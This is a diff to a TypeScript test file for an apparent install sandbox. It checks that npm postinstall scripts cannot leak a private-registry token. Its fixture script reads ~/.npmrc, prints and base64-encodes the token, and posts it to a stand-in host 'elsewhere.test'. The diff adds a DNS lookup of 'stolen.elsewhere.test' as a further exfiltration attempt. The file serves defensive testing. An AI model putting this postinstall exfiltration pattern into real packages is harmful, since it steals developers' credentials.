@@ -1,5 +1,6 @@
 /** Set-up as it is on a real repository: real git, a real sandbox, a registry on loopback, and package scripts that try what they should not. */
 import assert from 'node:assert/strict'
+import { createSocket } from 'node:dgram'
 import { existsSync, readdirSync, readFileSync } from 'node:fs'
 import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { createServer } from 'node:http'
@@ -154,8 +155,9 @@ const npmrc = (host: string): Credential[] => [
   { name: '.npmrc', as: 'file', from: { file: host }, repositories: ['shop'], whenChanged: false },
 ]
 
-/** A postinstall script that prints the credential, posts it, and looks elsewhere. */
-const curious = (host: string): string => `
+/** A postinstall script that prints the credential, posts it, looks elsewhere, and tells it to a name server, piece by piece. */
+const curious = (host: string, nameServer: number): string => `
+import { lookup, Resolver } from 'node:dns/promises'
 import { readFileSync } from 'node:fs'
 import { request } from 'node:http'
 const proxy = new URL(process.env.HTTP_PROXY)
@@ -170,7 +172,23 @@ console.log('file', readFileSync(process.env.HOME + '/.npmrc', 'utf8'))
 console.log('base64', btoa(process.env.REGISTRY_TOKEN))
 await ask('POST', 'http://${host}/stolen')
 await ask('GET', 'http://elsewhere.test/stolen')
+const resolver = new Resolver({ timeout: 200, tries: 1 })
+resolver.setServers(['127.0.0.1:${nameServer}'])
+console.log('asked a name server:', await resolver.resolve4('stolen.elsewhere.test').then(() => 'answered', (error) => error.code))
+console.log('looked up:', await lookup('stolen.elsewhere.test').then(() => 'answered', (error) => error.code))
 `
+
+/** A name server that only counts what it is asked. */
+async function startNameServer(): Promise<AsyncDisposable & { port: number; asked(): number }> {
+  let asked = 0
+  const server = createSocket('udp4').on('message', () => asked++)
+  await new Promise<void>((resolve) => server.bind(0, '127.0.0.1', resolve))
+  return {
+    port: server.address().port,
+    asked: () => asked,
+    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
+  }
+}
 
 for (const rung of ['namespace', 'group'] as const)
   test(`on the rung ${rung} npm ci installs from a private registry; its scripts print, post and leave no token`, async (context) => {
@@ -184,7 +202,8 @@ for (const rung of ['namespace', 'group'] as const)
         return script
       },
     })
-    script = curious(registry.host)
+    await using names = await startNameServer()
+    script = curious(registry.host, names.port)
     const secret = scratch.place('npmrc')
     const settings = `registry=http://${registry.host}/\n//${registry.host}/:_authToken=${token}\nfoo-password=hunter2hunter2\n`
     await writeFile(secret, settings, { mode: 0o600 })
@@ -224,6 +243,8 @@ for (const rung of ['namespace', 'group'] as const)
     assert.match(made.said, /GET http:\/\/elsewhere\.test\/stolen 403/)
     assert.match(made.said, new RegExp(`# set-up reached ${registry.host}: 1 connections, \\d+ bytes in`))
     assert.match(made.said, /# set-up did not reach elsewhere\.test:80: is not among the registries/)
+    assert.match(made.said, /looked up: E[A-Z_]+/)
+    assert.equal(names.asked() > 0, rung === 'group', 'only below a network of its own anything is heard')
     assert.deepEqual(made.sockets, [])
   })
 
